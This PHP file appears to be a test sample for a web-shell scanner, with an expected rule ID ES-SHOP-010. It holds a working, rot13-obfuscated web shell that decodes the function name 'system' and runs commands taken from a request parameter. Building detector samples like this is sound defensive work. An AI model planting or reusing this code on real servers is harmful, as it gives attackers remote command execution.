<?php
// expect: ES-SHOP-010
// Written for Ensuresec's tests after public descriptions of "variable function" web shells (Sucuri, "Obfuscated
// PHP web shells using variable functions"; the ESET and Trustwave notes on one-liners like $_GET['f']($_GET['c'])):
// the name of the function to call comes from the request, or is assembled with chr() and str_rot13. Not a copy.
$f = str_rot13('flfgrz');
$cmd = isset($_REQUEST['q']) ? $_REQUEST['q'] : 'id';
$f($cmd);
